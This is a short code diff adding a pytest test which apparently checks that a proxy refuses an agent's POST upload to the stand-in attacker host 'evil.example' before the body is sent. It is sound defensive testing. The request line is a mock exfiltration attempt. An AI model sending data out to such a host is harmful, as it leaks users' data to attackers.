@@ -195,6 +195,17 @@ class TestUploadsToRefusedDestinations:
         assert attacked.arrived == []
         assert self.held(witness) < MEGABYTE
 
+    @pytest.mark.parametrize("length", ["Content-Length: 70000", "Transfer-Encoding: chunked"])
+    def test_are_refused_before_they_begin(
+        self, watched: Proxy, attacked: Attacked, length: str
+    ) -> None:
+        agent = attacked.origin(Component.AGENT)
+        with Wire.tunnel(watched, agent) as wire:
+            answered = wire.request(ECHO, "evil.example", length, method="POST")
+            assert answered.status == 421
+            assert wire.ended()
+        assert attacked.arrived == []
+
     def test_are_not_waited_for_over_http2(
         self, watched: Proxy, witness: Witness, attacked: Attacked
     ) -> None:
